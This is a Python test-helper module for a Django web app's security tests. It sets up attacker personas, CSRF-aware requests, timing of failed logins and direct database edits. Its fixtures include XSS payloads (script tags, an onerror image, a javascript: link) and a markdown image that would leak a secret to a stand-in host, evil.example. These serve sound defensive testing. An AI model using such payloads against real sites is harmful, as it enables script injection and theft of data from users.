"""The people of these tests: the admin who owns things, Eve who should see none of them, and Mallory with an odd name."""

import re
import sqlite3
import time
from contextlib import closing
from typing import Any

import requests

from tests.site import Site

EVE = {"username": "eve", "password": "staple-correct-9"}
MALLORY = {"username": '"><script>alert(2)</script>', "password": "horse-staple-42"}
SECRET = "sk-secret-of-the-endpoint"
SCRIPT = "<script>alert(1)</script>"
EVIL = f"{SCRIPT} ![a](https://evil.example/?q=secret) [x](javascript:alert(1)) <img src=x onerror=alert(1)> \"onclick='"
MADE = """
from describer.models import ApiKey, User, Webhook
Webhook.issue(User.objects.get(), "https://127.0.0.1/")
for name, password in {people!r}:
    User.objects.create_user(name, password=password)
for user in User.objects.order_by("pk"):
    print(ApiKey.issue(user, "tests")[1])
"""


def with_people(site: Site) -> dict[str, dict[str, str]]:
    """Adds Eve and Mallory; answers the bearer headers of the admin, of Eve and of Mallory, by name."""
    people = [(one["username"], one["password"]) for one in (EVE, MALLORY)]
    keys = site.manage("shell", "-c", MADE.format(people=people)).split()[-3:]
    site.key = keys[0]
    names = ("admin", "eve", "mallory")
    return {name: {"Authorization": f"Bearer {key}"} for name, key in zip(names, keys, strict=True)}


def post(site: Site, person: requests.Session, path: str, **options: Any) -> requests.Response:
    """A form of a page, sent by this person with its CSRF token; redirects are not followed."""
    headers = {"X-CSRFToken": person.cookies["csrftoken"], "Referer": site.url}
    return person.post(site.url + path, headers=headers, timeout=60, allow_redirects=False, **options)


def guess(site: Site, name: str, **headers: str) -> tuple[requests.Response, float]:
    """A login with a wrong password, and how many seconds the answer took."""
    session = requests.Session()
    session.get(f"{site.url}/login/", timeout=10)
    fields = {"username": name, "password": "wrong", "csrfmiddlewaretoken": session.cookies["csrftoken"]}
    began = time.monotonic()
    sent = {"Referer": site.url} | headers
    answer = session.post(f"{site.url}/login/", data=fields, headers=sent, timeout=30)
    return answer, time.monotonic() - began


def changed(site: Site, rows: str) -> None:
    """Change rows behind the site's back."""
    with closing(sqlite3.connect(site.data / "describer.sqlite3", timeout=20)) as database, database:
        database.execute(f"UPDATE {rows}")


def without_tokens(page: str) -> str:
    """What two pages of different addresses have in common."""
    return re.sub(r'name="(csrfmiddlewaretoken|next)" value="[^"]+"', "", page)
